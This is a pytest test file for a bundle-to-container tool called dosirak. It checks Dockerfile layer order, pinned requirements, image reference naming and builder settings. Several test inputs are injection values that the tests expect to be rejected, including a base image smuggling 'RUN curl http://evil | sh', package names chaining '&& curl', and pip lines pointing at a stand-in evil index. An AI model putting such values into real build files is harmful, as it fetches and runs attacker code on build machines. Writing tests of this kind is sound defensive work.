"""A bundle's image recipe and build context: what reaches the Dockerfile and pip is checked first."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from dosirak.bundles.bundle import Bundle
from dosirak.bundles.container import (
    ImageOptions,
    bundle_options,
    bundle_requirements,
    default_reference,
    python_version,
    render_dockerfile,
    write_context,
)
from dosirak.errors import BundleError, ConfigError, ImageError
from dosirak.settings import DEFAULT_CONTAINER_BASE_IMAGE, get_settings, reset_settings


def bundle(info: dict[str, object], path: Path = Path("/nowhere")) -> Bundle:
    return Bundle(path=path, info={"name": "svc", "version": "1", "service": "s.py:S", **info})


def test_the_dockerfile_installs_dependencies_before_the_bundle_and_starts_in_exec_form() -> None:
    text = render_dockerfile(name="svc", version="20261124-1", base_image=DEFAULT_CONTAINER_BASE_IMAGE)
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    order = [next(i for i, line in enumerate(lines) if line.startswith(prefix)) for prefix in (
        "FROM localhost/debian-python:bookworm", "COPY wheels/requirements.txt", "RUN --mount=type=bind,source=wheels",
        "COPY dosirak/", "COPY bundle/", "ENTRYPOINT")]
    assert order == sorted(order)
    assert 'ENTRYPOINT ["/opt/dosirak/bin/dosirak", "image-entrypoint", "/home/dosirak/bundle"]' in lines
    assert "LABEL com.amazonaws.sagemaker.capabilities.accept-bind-to-port=true \\" in lines
    assert "USER 1000:1000" in lines and "EXPOSE 3000 8080" in lines
    assert f"Python {python_version()}" in text and "dosirak==" not in text  # never from an index by version
    # what changes with every bundle version comes after the dependency layers
    assert all(i > order[2] for i, line in enumerate(lines) if "20261124-1" in line)


def test_without_a_wheelhouse_the_image_installs_pinned_requirements_from_an_index() -> None:
    text = render_dockerfile(name="svc", version="1", base_image="python:3.11-slim", wheelhouse=False,
                             extra_index_urls=["https://download.pytorch.org/whl/cpu"])
    assert "FROM python:3.11-slim\n" in text and "wheels" not in text.split("\nFROM")[1]
    assert "pip install --extra-index-url https://download.pytorch.org/whl/cpu -r /tmp/requirements.txt" in text


@pytest.mark.parametrize(("base_image", "packages", "message"), [
    ("python:3.11\nRUN curl http://evil | sh", (), "is not an image reference"),
    ("python:3.11", ("libgomp1 && curl http://evil",), "is not a Debian package name"),
    ("python:3.11", ("libgomp1\nRUN x",), "is not a Debian package name"),
])
def test_a_crafted_base_image_or_system_package_never_reaches_the_dockerfile(
        base_image: str, packages: tuple[str, ...], message: str) -> None:
    with pytest.raises(BundleError, match=message):
        render_dockerfile(name="svc", version="1", base_image=base_image, system_packages=packages)


@pytest.mark.parametrize("line", ["--index-url=http://evil/simple", "torch>=2", "torch==2.1 --pre",
                                  "git+https://evil/x", "x==1; os_name=='posix'"])
def test_a_requirement_that_is_not_name_equals_version_is_refused(line: str) -> None:
    with pytest.raises(BundleError, match="is not NAME==VERSION"):
        bundle_requirements(bundle({"requirements": ["numpy==2.4.6", line]}))


def test_pinned_requirements_with_extras_and_local_versions_pass() -> None:
    pins = ["torch==2.13.0+cpu", "uvicorn[standard]==0.55.0", "pydantic_core==2.50.5"]
    assert bundle_requirements(bundle({"requirements": pins})) == pins


@pytest.mark.parametrize(("name", "reference"), [
    ("fashion_mnist", "localhost/fashion-mnist:7"), ("Fashion.MNIST", "localhost/fashion-mnist:7"),
    ("a__b--c", "localhost/a-b-c:7"),
])
def test_default_references_follow_the_image_grammar(name: str, reference: str) -> None:
    assert default_reference(name, "7") == reference


def test_the_base_image_is_the_flag_else_the_bundles_else_the_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    plain, named = bundle({}), bundle({"docker": {"base_image": "python:3.11-slim", "system_packages": ["libgomp1"]}})
    assert bundle_options(plain).base_image == DEFAULT_CONTAINER_BASE_IMAGE
    assert bundle_options(named) == ImageOptions(base_image="python:3.11-slim", system_packages=("libgomp1",))
    assert bundle_options(named, base_image="nvidia/cuda:12.4.1-runtime").base_image == "nvidia/cuda:12.4.1-runtime"
    monkeypatch.setenv("DOSIRAK_CONTAINER_BASE_IMAGE", "python:3.11-slim-bookworm")
    reset_settings()
    assert bundle_options(plain).base_image == "python:3.11-slim-bookworm"
    with pytest.raises(ImageError, match="base image 'a b' is not an image reference"):
        bundle_options(plain, base_image="a b")


def test_a_directory_dosirak_did_not_write_is_never_replaced_by_a_context(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine")
    with pytest.raises(BundleError, match=re.escape(f"{tmp_path} exists and is not a build context dosirak wrote")):
        write_context(bundle({}), tmp_path, ImageOptions(base_image="python:3.11"))
    assert (tmp_path / "notes.txt").read_text() == "mine"


def test_the_builder_setting_takes_only_known_builders(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOSIRAK_CONTAINER_BUILDER", "Podman")
    reset_settings()
    assert get_settings().container_builder == "podman"
    monkeypatch.setenv("DOSIRAK_CONTAINER_BUILDER", "kaniko")
    reset_settings()
    with pytest.raises(ConfigError, match="DOSIRAK_CONTAINER_BUILDER / container_builder: 'kaniko' is not one of "
                                          "auto, docker, podman, buildah"):
        get_settings()
